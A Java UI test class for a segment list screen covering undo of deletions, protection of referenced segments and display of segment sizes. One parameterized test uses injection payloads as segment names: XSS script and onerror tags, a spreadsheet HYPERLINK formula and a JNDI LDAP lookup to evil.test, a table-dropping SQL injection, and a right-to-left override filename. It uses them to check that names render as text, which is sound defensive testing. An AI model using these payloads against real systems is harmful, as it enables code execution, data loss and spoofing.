package com.martlet.segment.ui;

import static org.assertj.core.api.Assertions.assertThat;

import com.martlet.identity.Actor;
import com.martlet.identity.Role;
import com.martlet.segment.PublishedShop;
import com.martlet.segment.RuleJson;
import com.martlet.segment.SegmentDraft;
import com.vaadin.flow.component.UI;
import com.vaadin.flow.component.html.Anchor;
import com.vaadin.flow.component.html.NativeTableRow;
import com.vaadin.flow.component.html.Span;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SegmentListViewTest extends SegmentScreens {

    @Test
    void takesADeletionBack() {
        keep("nested", NESTED);
        signIn(Role.MARKETER);
        UI.getCurrent().navigate("t/" + tenant.slug() + "/segments");

        test(deleteOf("nested")).click();
        test(button("Delete")).click();
        assertThat(segments.find(tenant.id(), "nested")).isEmpty();
        assertThat($(SegmentTable.class).all()).isEmpty();

        test(button("Undo")).click();
        assertThat(segments.load(tenant.id(), "nested").rule()).isEqualTo(RuleJson.read(NESTED));
    }

    @Test
    void keepsASegmentThatAnotherOneUses() {
        keep("nested", NESTED);
        keep("rest", "{\"not\":{\"segment\":\"nested\"}}");
        signIn(Role.MARKETER);
        UI.getCurrent().navigate("t/" + tenant.slug() + "/segments");

        test(deleteOf("nested")).click();
        test(button("Delete")).click();

        assertThat(segments.find(tenant.id(), "nested")).isPresent();
    }

    @Test
    void listsSegmentsWithTheirSize() {
        PublishedShop.in(tenant, context);
        keep("nested", NESTED);
        signIn(Role.VIEWER);

        UI.getCurrent().navigate("t/" + tenant.slug() + "/segments");

        assertThat($(NativeTableRow.class).all()).hasSize(2);
        assertThat($(Anchor.class).withText("nested").exists()).isTrue();
        assertThat(segments.load(tenant.id(), "nested").lastCount()).isPositive();
    }

    /** Names that are code, formulas or foreign scripts elsewhere are text here. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "=HYPERLINK(\"http://evil.test\")",
                "'; drop table segments; --",
                "{0} {1} ${jndi:ldap://evil.test/a}",
                "👩‍👩‍👧‍👦 김민지 ﷽",
                "\u202Egnp.exe"
            })
    void showsAnyNameAsText(String name) {
        var rule = RuleJson.read("{\"attribute\":\"gender\",\"op\":\"in\",\"value\":[\"F\"]}");
        segments.create(tenant, Actor.martlet(tenant), new SegmentDraft("first", name, rule));
        keep("second", "{\"not\":{\"segment\":\"first\"}}");
        signIn(Role.MARKETER);

        UI.getCurrent().navigate("t/" + tenant.slug() + "/segments");

        assertThat($(Anchor.class).all()).anyMatch(link -> link.getText().equals(name));
        assertThat($(Span.class).all())
                .anyMatch(words -> words.getText().equals("not in the segment “" + name + "”"));
        assertThat($(Span.class).all()).noneMatch(one -> one.getElement().hasProperty("innerHTML"));
    }
}
